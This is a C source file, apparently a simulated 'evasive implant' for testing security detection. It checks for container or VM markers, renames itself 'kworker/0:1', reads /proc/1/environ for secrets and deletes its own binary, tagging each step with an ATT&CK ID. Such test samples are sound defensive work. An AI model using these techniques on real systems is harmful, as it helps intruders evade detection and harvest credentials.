/* Malicious: an evasive implant. Checks whether it runs in a container or VM (/.dockerenv, DMI
 * vendor strings), hides under a kernel-thread name (prctl PR_SET_NAME "kworker/0:1",
 * T1036.004), reads PID 1's environment for secrets (/proc/1/environ, T1003.007), then deletes
 * its own executable (T1070.004) and idles like a daemon for a moment. */
#include "common.h"
#include <fcntl.h>
#include <sys/prctl.h>
#include <time.h>
int main(void) {
  int in_container = access("/.dockerenv", F_OK) == 0;
  char vendor[64] = "";
  int fd = open("/sys/class/dmi/id/sys_vendor", O_RDONLY);
  if (fd >= 0) { ssize_t n = read(fd, vendor, sizeof vendor - 1); if (n > 0) vendor[n] = 0; close(fd); }
  if (prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0) != 0) WARN("prctl");
  char env[4096];
  ssize_t got = -1;
  fd = open("/proc/1/environ", O_RDONLY);
  if (fd >= 0) { got = read(fd, env, sizeof env); close(fd); } else WARN("open /proc/1/environ");
  char self[512];
  ssize_t len = readlink("/proc/self/exe", self, sizeof self - 1);
  if (len > 0) { self[len] = 0; if (unlink(self) != 0) WARN("unlink self"); }
  struct timespec t = { 0, 200 * 1000 * 1000 };
  nanosleep(&t, NULL);
  SAY("stealth-implant: container=%d vendor=%s environ=%zd bytes, deleted %s", in_container, vendor[0] ? "yes" : "n/a", got, len > 0 ? self : "?");
  return 0;
}
